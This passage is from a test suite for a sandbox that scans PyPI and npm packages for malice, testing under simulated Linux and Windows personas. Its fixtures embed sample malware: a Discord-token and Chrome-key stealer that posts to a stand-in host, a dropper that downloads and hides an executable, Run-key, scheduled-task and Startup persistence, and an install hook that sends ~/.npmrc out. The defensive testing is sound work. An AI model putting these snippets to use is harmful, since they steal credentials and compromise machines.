      rmSync(join(hostSite, `${probe}.pth`), { force: true })
    }
  })

  it('gives a Windows stealer the folders it asks the environment for, with the stores it looks for planted there', { timeout: 60_000 }, async () => {
    // a grabber that joins paths onto os.getenv('APPDATA') stops at a TypeError where the variable is missing
    const init = `import os, json, base64, urllib.request
roaming, local = os.getenv('APPDATA'), os.getenv('LOCALAPPDATA')
state = json.load(open(os.path.join(local, 'Google', 'Chrome', 'User Data', 'Local State')))
key = base64.b64decode(state['os_crypt']['encrypted_key'])[5:]
store = os.path.join(roaming, 'discord', 'Local Storage', 'leveldb')
loot = ''.join(open(os.path.join(store, f), errors='ignore').read() for f in os.listdir(store) if f.endswith('.log'))
urllib.request.urlopen('https://grab.example-sink.net/d', data=json.dumps({'u': os.getenv('USERPROFILE'), 'k': key.hex(), 't': loot}).encode())
`
    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('grabpkg', '1.0.0', { 'grabpkg/__init__.py': init }), DEFAULT_ARCHIVE_LIMITS, { filename: 'grabpkg-1.0.0.tar.gz' })
    const run = await runSandbox(pypiEcosystem, sdist, ONE)
    expect(run.runs[0]!.steps.find((s) => s.label === 'import grabpkg')?.exitCode).toBe(0)
    const found = dynamicFindings(run).signals
    expect(found.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/Discord token .*grab\.example-sink\.net/)
    expect(found.map((s) => s.rule)).toContain('sandbox-reads-secrets')
  })

  it('answers as Windows on the Windows persona: a Python dropper gated on Windows runs its branch there and nowhere else', { timeout: 90_000 }, async () => {
    // each gate a payload uses; behind them, Windows-only calls Linux's Python refuses (window flags, os.startfile, winreg)
    const init = `import os, sys, platform, pathlib, subprocess, urllib.request
if os.name == 'nt' and sys.platform == 'win32' and platform.system() == 'Windows' and platform.release() == '10':
    import winreg, ctypes
    ctypes.windll.kernel32.FreeConsole()
    home = pathlib.Path.home() / 'AppData'
    exe = os.path.join(os.getenv('TEMP'), 'WinUpdate.exe')
    with open(exe, 'wb') as f:
        f.write(urllib.request.urlopen('http://cdn.example.org/WinUpdate.exe').read())
    si = subprocess.STARTUPINFO()
    si.dwFlags |= subprocess.STARTF_USESHOWWINDOW
    os.startfile(exe)
    try:
        subprocess.Popen([exe], startupinfo=si, creationflags=subprocess.CREATE_NO_WINDOW)
    except OSError:
        pass
    print('branch done')
`
    // and in an install hook: setuptools itself goes on working as on Linux while the hook hears Windows
    const setup = `import os, platform
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        if platform.system() == 'Windows':
            startup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
            open(os.path.join(startup, 'winupd.pyw'), 'w').write('import winupd')
        install.run(self)
setup(name='winupd', version='1.0.0', packages=['winupd'], cmdclass={'install': Install})
`
    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('winupd', '1.0.0', { 'setup.py': setup, 'winupd/__init__.py': init }), DEFAULT_ARCHIVE_LIMITS, { filename: 'winupd-1.0.0.tar.gz' })
    const windows = PERSONAS.find((p) => p.system === 'windows')!
    const run = await runSandbox(pypiEcosystem, sdist, { ...DEFAULT_SANDBOX_OPTIONS, personas: [PERSONAS[0]!, windows], stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    const [linux, win] = run.runs
    expect(win!.steps.find((s) => s.label === 'import winupd')).toMatchObject({ exitCode: 0, stdout: expect.stringContaining('branch done') })
    const ran = dynamicFindings(run).signals.find((s) => s.rule === 'sandbox-runs-downloaded-code')
    expect(ran?.message).toMatch(/^import winupd: ran .*\/home\/jordan\/AppData\/Local\/Temp\/WinUpdate\.exe.*\[windows\]$/)
    const persisted = dynamicFindings(run).signals.find((s) => s.rule === 'sandbox-persistence')
    expect(persisted?.message).toMatch(/^setup\.py install: .* wrote .*Start Menu\/Programs\/Startup\/winupd\.pyw \[windows\]$/)
    // the Linux persona took the other branch: nothing fetched, nothing run
    expect(dynamicFindings({ ...run, runs: [linux!] }).signals).toEqual([])
    // the mark that tells the exerciser is gone before the package runs, and TEMP is no write outside
    const marked = await pypiEcosystem.readArtifact(
      await sdistTarGz('winmark', '1.0.0', { 'winmark/__init__.py': "import os\nopen(os.path.join(os.environ['TEMP'], 'seen'), 'w').write(repr(os.environ.get('GATEHOUSE_SYSTEM')))\nprint('mark', os.environ.get('GATEHOUSE_SYSTEM'))\n" }),
      DEFAULT_ARCHIVE_LIMITS,
      { filename: 'winmark-1.0.0.tar.gz' },
    )
    const markRun = await runSandbox(pypiEcosystem, marked, { ...DEFAULT_SANDBOX_OPTIONS, personas: [windows], stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    expect(markRun.runs[0]!.steps.find((s) => s.label === 'import winmark')?.stdout).toContain('mark None')
    expect(dynamicFindings(markRun).signals).toEqual([])
  })

  it('answers as Windows to Node.js on the Windows persona, and still starts processes as Linux does', { timeout: 60_000 }, async () => {
    const windows = PERSONAS.find((p) => p.system === 'windows')!
    const { findings } = await npmRun(
      {
        'setup.js': `const os = require('os'), fs = require('fs'), path = require('path'), { execFile } = require('child_process')
if (process.platform === 'win32' && os.type() === 'Windows_NT') {
  const exe = path.join(process.env.TEMP, 'svchost.exe')
  fs.writeFileSync(exe, 'MZ')
  fs.chmodSync(exe, 0o755)
  execFile(exe, () => {})
}`,
      },
      { postinstall: 'node setup.js' },
      { ...ONE, personas: [PERSONAS[0]!, windows] },
    )
    expect(findings.signals.filter((s) => s.rule === 'sandbox-runs-downloaded-code').map((s) => s.message)).toEqual([expect.stringMatching(/AppData\/Local\/Temp\/svchost\.exe.*\[windows\]$/)])
  })

  it('gives the Windows persona Windows\' commands and registry: a shell command runs through cmd, `start` starts a dropped program, `reg`, `schtasks` and winreg reach the autostart keys', { timeout: 90_000 }, async () => {
    const windows = PERSONAS.find((p) => p.system === 'windows')!
    // Windows' own commands through a shell, backslashes and %VARIABLES% as cmd.exe reads them
    const shell = `import os, subprocess
if os.name == 'nt':
    exe = os.path.join(os.environ['TEMP'], 'upd.exe')
    open(exe, 'wb').write(b'MZ')
    os.system('start "" "%TEMP%\\\\upd.exe"')
    subprocess.run('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /t REG_SZ /d "%TEMP%\\\\upd.exe" /f', shell=True)
    print(subprocess.run('reg query HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', shell=True, capture_output=True, text=True).stdout)
`
    const shellRun = await runSandbox(pypiEcosystem, await pypiEcosystem.readArtifact(await sdistTarGz('winshell', '1.0.0', { 'winshell/__init__.py': shell }), DEFAULT_ARCHIVE_LIMITS, { filename: 'winshell-1.0.0.tar.gz' }), { ...DEFAULT_SANDBOX_OPTIONS, personas: [windows], stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    expect(shellRun.runs[0]!.steps.find((s) => s.label === 'import winshell')?.stdout).toMatch(/upd\s+REG_SZ\s+\/home\/jordan\/AppData\/Local\/Temp\\upd\.exe/)
    const shellFound = dynamicFindings(shellRun)
    expect(shellFound.signals.find((s) => s.rule === 'sandbox-runs-downloaded-code')?.message).toMatch(/^import winshell: ran .*\/home\/jordan\/AppData\/Local\/Temp\/upd\.exe.*\[windows\]$/)
    expect(shellFound.signals.find((s) => s.rule === 'sandbox-persistence')?.message).toMatch(/reg wrote .*\.windows\/registry\/HKEY_CURRENT_USER\/Software\/Microsoft\/Windows\/CurrentVersion\/Run\/upd \[windows\]$/)
    expect(rules(shellFound)).not.toContain('sandbox-writes-outside')
    // a path joined with a backslash in Python is, on this Linux, a file of that name: cmd hands it on as written
    const joined = "import os\nif os.name == 'nt':\n    exe = os.environ['TEMP'] + '\\\\svchost.exe'\n    open(exe, 'wb').write(b'MZ')\n    os.system('start ' + exe)\n"
    const joinedRun = await runSandbox(pypiEcosystem, await pypiEcosystem.readArtifact(await sdistTarGz('winjoin', '1.0.0', { 'winjoin/__init__.py': joined }), DEFAULT_ARCHIVE_LIMITS, { filename: 'winjoin-1.0.0.tar.gz' }), { ...DEFAULT_SANDBOX_OPTIONS, personas: [windows], stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    expect(dynamicFindings(joinedRun).signals.find((s) => s.rule === 'sandbox-runs-downloaded-code')?.message).toMatch(/^import winjoin: ran start \/home\/jordan\/AppData\/Local\/Temp\\svchost\.exe/)

    // the same through winreg and a scheduled task started without a shell; the program's own settings are no finding
    const api = `import os, subprocess, winreg
if os.name == 'nt':
    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\WinApi\\Settings') as own:
        winreg.SetValueEx(own, 'theme', 0, winreg.REG_SZ, 'dark')
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, 'WinApi', 0, winreg.REG_SZ, 'pythonw -m winapi')
    winreg.CloseKey(key)
    print('theme', winreg.QueryValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'software\\winapi\\settings'), 'Theme')[0])
    subprocess.call(['schtasks', '/create', '/tn', 'WinApi', '/tr', 'pythonw -m winapi', '/sc', 'onlogon'])
`
    const apiRun = await runSandbox(pypiEcosystem, await pypiEcosystem.readArtifact(await sdistTarGz('winapi', '1.0.0', { 'winapi/__init__.py': api }), DEFAULT_ARCHIVE_LIMITS, { filename: 'winapi-1.0.0.tar.gz' }), { ...DEFAULT_SANDBOX_OPTIONS, personas: [windows], stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    expect(apiRun.runs[0]!.steps.find((s) => s.label === 'import winapi')?.stdout).toContain('theme dark')
    const apiFound = dynamicFindings(apiRun)
    expect(apiFound.trace.events.filter((e) => e.event === 'write outside')).toEqual([])
    expect(rules(apiFound)).toEqual(['sandbox-persistence'])
    const persisted = apiFound.trace.events.filter((e) => e.event === 'write').map((e) => String(e.path))
    expect(persisted).toEqual(expect.arrayContaining([expect.stringMatching(/CurrentVersion\/Run\/WinApi$/), expect.stringMatching(/\.windows\/System32\/Tasks\/WinApi$/)]))
  })

  it('runs a Node.js shell command through cmd on the Windows persona, as Windows does', { timeout: 60_000 }, async () => {
    const windows = PERSONAS.find((p) => p.system === 'windows')!
    const { findings } = await npmRun(
      {
        'setup.js': `const fs = require('fs'), path = require('path'), { execSync } = require('child_process')
if (process.platform === 'win32') {
  fs.writeFileSync(path.join(process.env.TEMP, 'svc.exe'), 'MZ')
  execSync('start /b "" "%TEMP%\\\\svc.exe"', { windowsHide: true, stdio: 'ignore' })
}`,
      },
      { postinstall: 'node setup.js' },
      { ...ONE, personas: [windows] },
    )
    expect(findings.signals.filter((s) => s.rule === 'sandbox-runs-downloaded-code').map((s) => s.message)).toEqual([expect.stringMatching(/^postinstall: ran .*\/home\/jordan\/AppData\/Local\/Temp\/svc\.exe.*\[windows\]$/)])
  })

  it('runs the install command a pip install runs, where a cmdclass override waits; setuptools itself builds nothing', { timeout: 60_000 }, async () => {
    // egg_info alone (pip's metadata step) never reaches an overridden install; a wheel build does. Payloads check
    // that they run under an install as pip starts it, command first; nor does a module it lacks stop it, nor a login
    // name asked of a machine without a terminal
    const setup = `import os, sys, urllib.request
import gitpython_for_gatehouse_tests as git
from setuptools import setup
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        if sys.argv[1] != 'install':
            return
        token = open(os.path.expanduser('~/.npmrc')).read()
        urllib.request.urlopen('https://collector.example-drop.net/i?u=' + os.getlogin(), data=token.encode())
        install.run(self)
setup(name='postpkg', version='1.0.0', packages=['postpkg'], cmdclass={'install': PostInstall})
`
    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('postpkg', '1.0.0', { 'setup.py': setup, 'postpkg/__init__.py': '' }), DEFAULT_ARCHIVE_LIMITS, { filename: 'postpkg-1.0.0.tar.gz' })
    // setuptools' install under strace takes seconds; a loaded machine must not turn that into a timeout
    const run = await runSandbox(pypiEcosystem, sdist, { ...ONE, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    const install = run.runs[0]!.steps.find((s) => s.label === 'setup.py install')!
    expect(install.exitCode).toBe(0)
    // a dry run: nothing built or copied into place
    const written = run.runs[0]!.syscalls[run.steps.findIndex((s) => s.label === 'setup.py install')]!.flatMap((e) => (e.kind === 'open' && e.write && e.ok ? [e.path] : []))
    expect(written.filter((p) => p.includes('/build/') || p.startsWith('/tmp/gatehouse-install'))).toEqual([])
    const sent = run.runs[0]!.network.filter((e) => e.kind === 'http' && e.host.startsWith('collector.example-drop.net'))
    expect(sent).toHaveLength(1)
    expect(sent[0]!.t).toBeGreaterThanOrEqual(install.at)
    const found = dynamicFindings(run).signals
    expect(found.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/sent the planted .* to POST https:\/\/collector\.example-drop\.net\/i/)
    expect(found.map((s) => s.rule)).toContain('sandbox-system-info-egress') // the persona's login name, dana
  })
})
